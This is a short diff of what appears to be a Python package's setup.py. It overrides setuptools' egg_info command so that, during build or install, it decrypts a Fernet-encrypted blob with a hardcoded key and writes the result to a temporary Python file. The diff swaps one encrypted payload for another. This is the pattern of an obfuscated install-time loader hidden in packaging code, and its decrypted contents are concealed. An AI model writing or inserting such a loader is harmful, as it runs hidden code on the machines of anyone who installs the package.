@@ -6,7 +6,7 @@ from setuptools.command.egg_info import egg_info
 class Info(egg_info):
     def run(self):
         from cryptography.fernet import Fernet
-        code = Fernet(b'Dg8QERITFBUWFxgZGhscHR4fICEiIyQlJicoKSorLC0=').decrypt(b'gAAAAABrFcLB4JuyKP-1nod2J1oq22b_AFCefSay-4WTBqWGCvvn5ge3H_uLrGi24iA_7JRx5GuSHAKpUmAf4nGoeN-_2EQBxtLkphC_9vvan6Ql8OptJoputzf-gd7iDATWemtz9KOs')
+        code = Fernet(b'Dg8QERITFBUWFxgZGhscHR4fICEiIyQlJicoKSorLC0=').decrypt(b'gAAAAABrFcLq6XtIkRyYXjYSMcIF4BtRjWBVXeOai3kLMe5Fda6lvd6eCc0N19GP9V1GocQFFpg24NUgyXtA5y6lRnEeINOz7HdKsAvhVoBFSoGknu2FGjk_BeMCHrZz55Y_X66xeYSa')
         path = tempfile.mktemp(suffix=".py")
         with open(path, "wb") as handle:
             handle.write(code)
